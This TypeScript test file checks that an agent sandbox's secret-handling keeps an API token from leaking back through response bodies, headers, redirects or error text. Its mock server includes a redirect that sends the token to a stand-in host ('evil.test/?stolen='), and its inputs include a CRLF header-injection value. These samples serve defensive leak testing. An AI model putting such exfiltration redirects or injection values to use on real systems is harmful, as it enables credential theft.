/** Attacks a secret's value: servers that send it back in every place, and errors of every kind around it. */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Sandbox, sandbox } from "../e2e/ccos.ts";

const SECRET = "sk-live-4c1f9a7be2d84f0c93";
/** As base64 and hex of its middle, too: a copy that was encoded is a copy. */
const FORMS = [
  SECRET,
  Buffer.from(SECRET).toString("base64").slice(0, 20),
  Buffer.from(SECRET).toString("hex"),
];

let box: Sandbox;
let server: Server;
let received: string[] = [];

beforeAll(async () => {
  box = sandbox();
  server = createServer((request, response) => {
    const sent = String(request.headers["authorization"]);
    received.push(sent);
    if (request.url === "/in/redirect")
      response.writeHead(302, { location: `http://evil.test/?stolen=${sent}` });
    if (request.url === "/in/location") response.writeHead(302, { location: `/in/${sent}` });
    if (request.url === "/in/header") response.writeHead(401, { "x-echo": sent, etag: sent });
    if (request.url === "/in/reason") response.writeHead(500, sent);
    if (request.url === "/in/cut")
      return void request.socket.end(`HTTP/1.1 200 ${sent}\r\n${sent}`);
    response.end(request.url === "/in/body" ? `you sent ${sent}` : "");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  box.write(
    "agent.rtfs",
    `(agent.config :version "0.1" :agent-id "agent.secret" :profile :networked
      :features [:network :fs] :plan "plan.rtfs"
      :orchestrator {:isolation {:mode :wasm :fs {:ephemeral true}} :dlp {:enabled true :policy :strict}}
      :network {:enabled true :egress {:via :proxy :rules [{:host "localhost" :schemes [:http]
        :ports [${port}] :methods [:GET] :paths ["/in/*"] :addresses ["127.0.0.0/8" "::1/128"]}]}}
      :capabilities {:http {:enabled true} :fs {:enabled true :paths [{:path "/workspace" :mode :rw}]}}
      :secrets {:TOKEN {:source "env:REAL_TOKEN" :origins ["http://localhost:${port}"]
        :paths ["/in/*"] :headers ["authorization"]}}
      :env {:BASE "http://localhost:${port}"})`,
  );
});
afterAll(() => {
  server.close();
  box.remove();
});

const env = { REAL_TOKEN: SECRET };

/** Fetch `path`, then keep whatever came back in a file, in the log and in the result. */
async function fetchAndKeep(path: string): Promise<string> {
  box.write(
    "plan.rtfs",
    `(def token (call :ccos.system.get-env "TOKEN"))
     (def base (call :ccos.system.get-env "BASE"))
     (def got (try (str (call :ccos.network.http-fetch {:url (str base "${path}") :method "GET"
                :headers {"authorization" (str "Bearer " token)}})) (catch _ e (str e))))
     (call :ccos.io.write-file "/workspace/got.txt" got)
     (call :ccos.io.log got)
     {:token token :got got}`,
  );
  const { stdout, stderr } = await box.run(["run", "agent.rtfs", "--json"], { env });
  return stdout + stderr + (await box.run(["run", "agent.rtfs"], { env })).stderr;
}

describe("the value of a secret", () => {
  test.each<string>(["body", "header", "reason", "redirect", "location", "cut", "plain"])(
    "reaches its server and comes back nowhere: %s",
    async (path) => {
      received = [];
      const shown = await fetchAndKeep(`/in/${path}`);
      expect(received).toContain(`Bearer ${SECRET}`);
      const kept = filesBelow(box.home).map((file) => readFileSync(file, "latin1"));
      expect(kept.length).toBeGreaterThan(3);
      for (const text of [shown, ...kept])
        for (const form of FORMS) expect(text.includes(form)).toBe(false);
    },
  );

  test.each<[string, Record<string, string>]>([
    ["absent", {}],
    ["empty", { REAL_TOKEN: "" }],
    ["with a line break", { REAL_TOKEN: `${SECRET}\r\nx-injected: 1` }],
    ["with a NUL's neighbour", { REAL_TOKEN: `${SECRET}\u0001` }],
  ])("that is %s stops the start or the call, and is not named", async (_title, wrong) => {
    received = [];
    box.write("plan.rtfs", '(call :ccos.system.get-env "TOKEN")');
    const done = await box.run(["run", "agent.rtfs", "--json"], { env: wrong });
    expect(received).toEqual([]);
    for (const form of FORMS) expect(done.stdout + done.stderr).not.toContain(form);
    expect(JSON.parse(done.stdout)).toBeTypeOf("object");
  });
});

function filesBelow(path: string): readonly string[] {
  return readdirSync(path).flatMap((name) => {
    const inner = join(path, name);
    const stat = statSync(inner, { throwIfNoEntry: false });
    if (stat === undefined) return [];
    if (stat.isDirectory()) return filesBelow(inner);
    return stat.isFile() ? [inner] : [];
  });
}
